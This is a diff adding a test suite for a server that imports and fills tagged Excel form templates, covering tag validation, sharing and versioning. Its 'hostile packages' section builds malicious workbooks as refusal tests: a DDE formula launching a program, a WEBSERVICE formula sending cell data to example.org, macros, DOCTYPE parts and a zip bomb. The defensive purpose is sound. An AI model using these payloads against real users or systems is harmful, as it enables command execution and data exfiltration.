@@ -1,0 +1,270 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import ExcelJS from 'exceljs'
+import type { App } from '../../server/app'
+import { standardLimits } from '../../server/http/limit'
+import { partsOf, sheetOf, textCell } from '../reader/workbook'
+import { zipOf } from '../reader/zip'
+import { startTestApp } from '../support/app'
+import { signedIn, type TestClient } from '../support/client'
+import * as habit from './habit'
+import { bytesOf, openBook } from './package'
+
+let app: App
+let bureau: TestClient
+let yiwu: TestClient
+let leader: TestClient
+
+beforeAll(async () => {
+  const rate = { ...standardLimits.rate, import: { max: 10_000, seconds: 60 }, export: { max: 10_000, seconds: 60 } }
+  app = await startTestApp({ data: 'sample', config: { limits: { ...standardLimits, rate } } })
+  bureau = await signedIn(app, 'bureau')
+  yiwu = await signedIn(app, 'yiwu')
+  leader = await signedIn(app, 'leader')
+})
+afterAll(() => app.stop())
+
+let serial = 0
+
+const send = (client: TestClient, bytes: Buffer, name = `表${(serial += 1)}`) =>
+  client.fetch(`/forms?name=${encodeURIComponent(name)}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/octet-stream' },
+    body: new Uint8Array(bytes),
+  })
+
+interface Refused {
+  error: { code: string; message: string }
+}
+
+async function refusal(bytes: Buffer): Promise<Refused['error']> {
+  const response = await send(bureau, bytes)
+  expect(response.status).toBeGreaterThanOrEqual(400)
+  expect(response.status).toBeLessThan(500)
+  return ((await response.json()) as Refused).error
+}
+
+async function keep(bytes: Buffer, client = bureau, name?: string): Promise<string> {
+  const response = await send(client, bytes, name)
+  expect(response.status).toBe(201)
+  return ((await response.json()) as { id: string }).id
+}
+
+async function tagged(cells: Record<string, ExcelJS.CellValue>): Promise<Buffer> {
+  const workbook = new ExcelJS.Workbook()
+  const sheet = workbook.addWorksheet('表1')
+  for (const [address, value] of Object.entries(cells)) sheet.getCell(address).value = value
+  return bytesOf(workbook)
+}
+
+describe('a tag that isn’t understood is refused with its cell', () => {
+  test('every unknown word is named', async () => {
+    const { code, message } = await refusal(
+      await tagged({ B2: '{{参评;系列=农叶}}', C7: '{{参加}}', D9: '{{参评;门类=农业}}', E1: '{{参评}}' }),
+    )
+    expect(code).toBe('FORM_TAG_UNKNOWN')
+    expect(message.split('\n')).toEqual([
+      '“表1”的 B2：“农叶”不是系列的值。',
+      '“表1”的 C7：“参加”不是指标，也不是任何字段的值。',
+      '“表1”的 D9：“门类”不是字段。',
+    ])
+  })
+
+  test.each([
+    ['{{市直;申报}}', 'FORM_TAG_UNKNOWN', '“市直”可能是隶属关系或区县'],
+    ['{{系列=农业}}', 'FORM_TAG_INVALID', '没有指标'],
+    ['{{申报;级别=高级;级别=中级}}', 'FORM_TAG_INVALID', '写了不止一次'],
+    ['{{通过率;逾期}}', 'FORM_TAG_INVALID', '只能有一个比率'],
+    ['{{申报;截至=2月30日}}', 'FORM_TAG_INVALID', '不是日期'],
+    ['{{申报;年度=去年}}', 'FORM_TAG_INVALID', '看不懂'],
+    ['{{列表:天气}}', 'FORM_TAG_UNKNOWN', '列表后面'],
+    ['{{列表:系列;申报}}', 'FORM_TAG_INVALID', '不写指标'],
+    ['{{行:级别=高级}}{{列:申报}}', 'FORM_TAG_INVALID', '一格里只能有一个'],
+    ['{{申报;查找=张三}}', 'FORM_TAG_UNKNOWN', '“查找”不是字段'],
+    [`{{申报;系列=${'农'.repeat(600)}}}`, 'FORM_TAG_INVALID', '超过 500 字'],
+  ])('%s', async (text, code, part) => {
+    const refused = await refusal(await tagged({ C3: text }))
+    expect(refused.code).toBe(code)
+    expect(refused.message).toContain('“表1”的 C3：')
+    expect(refused.message).toContain(part)
+  })
+
+  test('what only the crossing shows is refused when the form is filled', async () => {
+    const fill = async (bytes: Buffer, query = 'year=2026') => {
+      const response = await bureau.fetch(`/forms/${await keep(bytes)}/filled.xlsx?${query}`)
+      return { status: response.status, ...((await response.json()) as Refused).error }
+    }
+    expect(await fill(await tagged({ B1: '{{列:级别=高级}}', A2: '{{行:级别=中级}}' }))).toMatchObject({
+      status: 400,
+      code: 'FORM_TAG_INVALID',
+      message: '“表1”的 B2：行和列的标记写了同一个条件，请只留一处。',
+    })
+    expect(await fill(await tagged({ B1: '{{列:级别=高级}}', A2: '{{行:农业}}' }))).toMatchObject({
+      code: 'FORM_TAG_INVALID',
+      message: '“表1”的 B2：行和列的标记都没有指标。',
+    })
+    expect(await fill(await tagged({ A2: '{{列表:系列}}', A6: '合计' }))).toMatchObject({
+      code: 'FORM_TAG_INVALID',
+      message: '“表1”的 A2：列表有 17 项，从这一格往下只有 4 个空行，放不下。',
+    })
+    expect(await fill(await tagged({ A2: '{{申报;工作单位=没有这个单位}}' }))).toMatchObject({
+      code: 'FORM_TAG_UNKNOWN',
+      message: '“表1”的 A2：没有叫“没有这个单位”的工作单位。',
+    })
+    const good = await tagged({ A1: '{{申报;上年}}' })
+    expect(await fill(good, '')).toMatchObject({ status: 400, code: 'INVALID_INPUT' })
+    expect(await fill(good, 'year=2025,2026')).toMatchObject({ code: 'INVALID_INPUT' })
+    expect(await fill(good, 'year=1999')).toMatchObject({ code: 'CYCLE_UNKNOWN' })
+    expect(await fill(good, 'year=2026&sources=maybe')).toMatchObject({ code: 'INVALID_INPUT' })
+    expect(await fill(good, 'year=2026&asOf=2027-01-01')).toMatchObject({ code: 'INVALID_INPUT' })
+    expect(await fill(await tagged({ A1: '没有标记' }))).toMatchObject({ status: 409, code: 'FORM_NO_TAG' })
+    expect((await bureau.fetch('/forms/999999/filled.xlsx?year=2026')).status).toBe(404)
+    expect((await bureau.fetch('/forms/x%00/filled.xlsx?year=2026')).status).toBe(404)
+  })
+})
+
+describe('hostile and unsuitable packages', () => {
+  const plain = () => partsOf({ sheets: [{ data: `<row r="1">${textCell('A1', '{{申报}}')}</row>` }] })
+  const relation = (mode: string, kind: string) =>
+    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://example.org/x" TargetMode="${mode}"/></Relationships>`
+  const sheetRelations = 'xl/worksheets/_rels/sheet1.xml.rels'
+
+  test.each([
+    [
+      'a link to another workbook',
+      zipOf([...plain(), { name: 'xl/externalLinks/externalLink1.xml', content: '<a/>' }]),
+      'FORM_EXTERNAL',
+    ],
+    ['a data connection', zipOf([...plain(), { name: 'xl/connections.xml', content: '<a/>' }]), 'FORM_EXTERNAL'],
+    [
+      'a picture from the network',
+      zipOf([...plain(), { name: sheetRelations, content: relation('External', 'image') }]),
+      'FORM_EXTERNAL',
+    ],
+    [
+      'a formula that asks the network',
+      sheetOf('<row r="1"><c r="A1"><f>WEBSERVICE("https://example.org/"&amp;B1)</f></c></row>'),
+      'FORM_EXTERNAL',
+    ],
+    [
+      'a formula that starts a program',
+      sheetOf(`<row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f></c></row>`),
+      'FORM_EXTERNAL',
+    ],
+    ['an ID number', sheetOf(`<row r="3">${textCell('B3', '900000199001011239')}</row>`), 'FORM_PERSONAL'],
+    ['macros', zipOf([...plain(), { name: 'xl/vbaProject.bin', content: 'x' }]), 'IMPORT_MACRO'],
+    ['an encrypted part', zipOf(plain().map((part) => ({ ...part, flags: 1 }))), 'IMPORT_ENCRYPTED'],
+    [
+      'a DOCTYPE',
+      zipOf(
+        plain().map((part) =>
+          part.name.endsWith('sheet1.xml')
+            ? { ...part, content: `<!DOCTYPE a []>${String(part.content).replace(/<\?.*\?>\n/, '')}` }
+            : part,
+        ),
+      ),
+      'IMPORT_DOCTYPE',
+    ],
+    [
+      'a bomb',
+      zipOf([...plain(), { name: 'xl/media/a.bin', content: Buffer.alloc(60 * 1024 * 1024) }]),
+      'IMPORT_INFLATES',
+    ],
+    [
+      'a sheet that is too large',
+      zipOf([
+        ...plain().filter(({ name }) => !name.endsWith('sheet1.xml')),
+        {
+          name: 'xl/worksheets/sheet1.xml',
+          content: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${' '.repeat(9 * 1024 * 1024)}</sheetData></worksheet>`,
+          stored: false,
+        },
+      ]),
+      'FORM_TOO_LARGE',
+    ],
+    ['more than 5 MB', Buffer.alloc(5 * 1024 * 1024 + 10, 'PK'), 'FORM_TOO_LARGE'],
+    ['no workbook', Buffer.from('姓名,级别\n张三,高级\n'), 'IMPORT_NOT_XLSX'],
+    ['nothing', Buffer.alloc(0), 'IMPORT_EMPTY'],
+    ['half a file', sheetOf('<row/>').subarray(0, 500), 'IMPORT_TRUNCATED'],
+  ])('%s is refused', async (_, bytes, code) => {
+    expect((await refusal(bytes)).code).toBe(code)
+  })
+
+  test('a hyperlink does nothing by itself and stays', async () => {
+    await keep(zipOf([...plain(), { name: sheetRelations, content: relation('External', 'hyperlink') }]))
+  })
+})
+
+describe('keeping forms', () => {
+  const list = async (client: TestClient) =>
+    (
+      await client.get<{
+        forms: { id: string; name: string; shared: boolean; editable: boolean; version: number; tagged: number }[]
+      }>('{ forms { id name shared editable version tagged } }')
+    ).forms
+  const save = `mutation ($id: ID!, $version: Int!, $name: String!, $tags: [FormTagInput!]!, $typed: [FormTypedInput!]!) {
+    saveForm(id: $id, version: $version, name: $name, tags: $tags, typed: $typed) { version name tagged } }`
+  const remove = 'mutation ($id: ID!) { deleteForm(id: $id) }'
+
+  test('a form of the bureau is filled by everybody and changed by the bureau; one of a county is its own', async () => {
+    const shared = await keep(await habit.letter(), bureau, '共用')
+    const own = await keep(await habit.letter(), yiwu, '伊吾自用')
+    expect((await list(yiwu)).find(({ id }) => id === shared)).toMatchObject({ shared: true, editable: false })
+    expect((await list(yiwu)).find(({ id }) => id === own)).toMatchObject({ shared: false, editable: true })
+    expect((await list(bureau)).some(({ id }) => id === own)).toBe(false)
+    expect((await list(leader)).find(({ id }) => id === shared)).toMatchObject({ editable: true })
+    const change = { id: shared, version: 1, name: '改名', tags: [], typed: [] }
+    expect((await yiwu.ask(save, change)).errors?.[0]?.extensions.code).toMatch(/FORM_MEANWHILE|NOT_FOUND/)
+    expect((await yiwu.ask(remove, { id: shared })).errors?.[0]?.extensions.code).toBe('NOT_FOUND')
+    expect((await bureau.ask(remove, { id: own })).errors?.[0]?.extensions.code).toBe('NOT_FOUND')
+    expect((await bureau.fetch(`/forms/${own}/filled.xlsx?year=2026`)).status).toBe(404)
+    expect((await send(bureau, await habit.letter(), '共用')).status).toBe(409)
+    expect(await yiwu.get(remove, { id: own })).toEqual({ deleteForm: true })
+    expect((await list(yiwu)).some(({ id }) => id === own)).toBe(false)
+  })
+
+  test('cells are tagged on the page; what is typed is kept and written', async () => {
+    const id = await keep(await tagged({ A1: '专业', A2: '农业', B1: '申报', C1: '核准职数' }))
+    const tags = [
+      { sheet: '表1', cell: 'A2', text: '{{行:系列=农业}}' },
+      { sheet: '表1', cell: 'B1', text: '{{列:申报}}' },
+      { sheet: '表1', cell: 'C1', text: '{{列:填:核准职数}}' },
+      { sheet: '表1', cell: 'D9', text: '{{填:说明}}' },
+    ]
+    const typed = [
+      { key: '表1!C2', value: '12' },
+      { key: '表1!D9', value: '=1+1' },
+    ]
+    expect(await bureau.get(save, { id, version: 1, name: '点选', tags, typed })).toEqual({
+      saveForm: { version: 2, name: '点选', tagged: 4 },
+    })
+    const stale = await bureau.ask(save, { id, version: 1, name: '点选', tags, typed })
+    expect(stale.errors?.[0]?.extensions.code).toBe('FORM_MEANWHILE')
+    const wrong = await bureau.ask(save, {
+      id,
+      version: 2,
+      name: '点选',
+      typed,
+      tags: [{ sheet: '表1', cell: 'B2', text: '{{农叶}}' }],
+    })
+    expect(wrong.errors?.[0]).toMatchObject({ extensions: { code: 'FORM_TAG_UNKNOWN' } })
+    for (const query of ['year=2026', 'year=2025']) {
+      const response = await bureau.fetch(`/forms/${id}/filled.xlsx?${query}`)
+      const book = await openBook(Buffer.from(await response.arrayBuffer()))
+      const [sheet, sources] = book.worksheets
+      expect(['A1', 'A2', 'B1', 'C1'].map((address) => sheet!.getCell(address).value)).toEqual([
+        '专业',
+        '农业',
+        '申报',
+        '核准职数',
+      ])
+      expect(sheet!.getCell('B2').value).toBeGreaterThan(0)
+      expect(sheet!.getCell('C2').value).toBe(12)
+      // Written as text, whatever it looks like.
+      expect(sheet!.getCell('D9').value).toBe(`'=1+1`)
+      expect(sources!.name).toBe('取数说明')
+      const line = [1, 2, 3, 4].map((column) => sources!.getCell(4, column).value)
+      expect(line).toEqual(['表1', 'B2', expect.stringContaining('系列：农业'), sheet!.getCell('B2').value])
+      expect(sources!.getCell('E4').hyperlink).toContain('/declarations?year=20')
+    }
+  })
+})
